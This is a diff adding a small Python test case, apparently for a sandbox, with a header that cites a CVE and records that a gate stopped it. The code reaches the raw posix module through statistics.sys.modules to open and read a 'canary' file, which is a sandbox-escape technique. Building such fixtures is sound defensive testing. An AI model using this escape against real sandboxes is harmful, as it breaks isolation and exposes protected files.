@@ -1,0 +1,12 @@
+# /// stoilo-case
+# idea = "module behind a library module"
+# stopped_by = "gate"
+# code = "STO-P041"
+# source = "CVE-2025-5120"
+# ///
+import statistics
+
+
+def run(kwargs):
+    system = statistics.sys.modules["posix"]
+    return system.read(system.open(kwargs["canary"], 0), 99).decode()
